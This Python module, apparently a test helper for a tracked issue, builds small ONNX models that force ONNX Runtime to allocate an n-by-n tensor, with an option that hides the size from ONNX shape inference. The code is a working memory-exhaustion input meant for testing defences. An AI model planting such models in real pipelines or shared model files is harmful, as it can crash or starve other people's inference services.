"""Tiny ONNX graphs that expand constants into huge tensors while ONNX Runtime builds or runs them (issue 27.3)."""

from __future__ import annotations

import hashlib
from pathlib import Path

import onnx
from onnx import TensorProto, helper


def constant_bomb(path: Path, n: int, *, hide_shape: bool = False) -> str:
    """``ConstantOfShape([n, n]) -> ReduceSum -> + x``: a few hundred bytes that allocate n*n floats.

    ``hide_shape`` computes the shape through a ``Cast`` of floats, which ONNX shape inference
    does not follow (the output's dims stay unknown) but ONNX Runtime folds all the same.
    Returns the file's sha256.
    """
    if hide_shape:
        floats = helper.make_tensor("f", TensorProto.FLOAT, [2], [float(n), float(n)])
        nodes = [helper.make_node("Constant", [], ["f"], value=floats),
                 helper.make_node("Cast", ["f"], ["shape"], to=TensorProto.INT64)]  # fmt: skip
    else:
        nodes = [helper.make_node("Constant", [], ["shape"], value=helper.make_tensor("s", TensorProto.INT64, [2], [n, n]))]
    nodes += [
        helper.make_node("ConstantOfShape", ["shape"], ["big"], value=helper.make_tensor("one", TensorProto.FLOAT, [1], [1.0])),
        helper.make_node("ReduceSum", ["big"], ["total"], keepdims=0),
        helper.make_node("Add", ["x", "total"], ["y"]),
    ]
    graph = helper.make_graph(nodes, "bomb", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])  # fmt: skip
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    path.parent.mkdir(parents=True, exist_ok=True)
    onnx.save(model, str(path))
    return hashlib.sha256(path.read_bytes()).hexdigest()
